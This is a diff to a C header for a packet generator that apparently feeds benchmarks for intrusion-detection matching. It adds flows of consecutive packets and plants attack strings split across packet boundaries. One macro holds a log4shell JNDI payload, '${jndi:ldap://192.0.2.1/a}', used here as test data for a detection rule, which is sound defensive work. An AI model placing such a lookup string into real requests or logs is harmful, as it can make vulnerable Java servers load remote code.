@@ -15,6 +15,16 @@
  *   PACKETS_HTTP      HTTP requests (request line, headers, body) cut to
  *                     the size, a fraction carrying one attack that the
  *                     built-in rules (corpora/rules.h) detect
+ * Every generated set is also cut into flows of PACKETS_FLOW_MIN to
+ * PACKETS_FLOW_MAX consecutive packets (the same packets: block mode reads
+ * them one by one, as before flows existed).  In a fraction match_rate of
+ * the flows of two packets or more, a plant is split across a boundary
+ * between two packets that carry nothing else: "private" (LITERAL,
+ * FULLSCAN) or PACKETS_SPLIT_HTTP (HTTP, the log4shell rule), cut so
+ * that neither packet matches alone and the flow matches as a stream.
+ * A "pri" that filler would make across a boundary is broken as within
+ * a packet.
+ *
  * The printable filler never contains "pri", so the literal and full-scan
  * patterns match exactly the planted packets; the HTTP filler never
  * matches a built-in rule, so mark[i] is exactly the set of rules that
@@ -52,6 +62,19 @@ struct packets {
 	 */
 	uint32_t *mark;
 	size_t nplanted;      /* packets with mark != 0 */
+	/*
+	 * Flows (NULL/0 when the set has none): flow f is the packets
+	 * pkt[flow[f] .. flow[f + 1]), in stream order, their payloads back
+	 * to back in buf, so that the reassembled flow is one view
+	 * (packets_flow_view).  flow_mark[f] is what the flow carries as one
+	 * stream, in mark's terms (NULL when unknown: pcap): its packets'
+	 * marks, less a start-anchored rule planted past its first packet,
+	 * plus what was planted split across two of its packets.
+	 */
+	size_t *flow;         /* nflows + 1 entries; owned */
+	size_t nflows;
+	uint32_t *flow_mark;  /* owned */
+	size_t nsplit;        /* flows with a plant split across packets */
 };
 
 /* What to generate. */
@@ -67,6 +90,9 @@ struct packets_spec {
 
 /* The planted strings, exported for the suite's patterns and the tests. */
 #define PACKETS_LITERAL_NEEDLE "private"
+#define PACKETS_SPLIT_HTTP "${jndi:ldap://192.0.2.1/a}"
+#define PACKETS_FLOW_MIN 2
+#define PACKETS_FLOW_MAX 8
 
 /*
  * The default number of packets of a size: enough payload (4 MiB) to
@@ -87,6 +113,15 @@ int packets_generate(struct packets *pk, enum packets_kind kind,
 		     const struct packets_spec *spec);
 
 void packets_release(struct packets *pk);
+
+/*
+ * The flows of pk as a set of their own: view->pkt[f] is flow f
+ * reassembled (one view into pk->buf), view->mark a copy of
+ * pk->flow_mark, wire_bytes pk's (line rate stays per packet).  The view
+ * owns its arrays, not the bytes: release it with packets_release()
+ * before pk.  0, or -1 out of memory or when pk has no flows.
+ */
+int packets_flow_view(const struct packets *pk, struct packets *view);
 
 /*
  * Line rate of a `link_gbps` link in millions of packets per second for
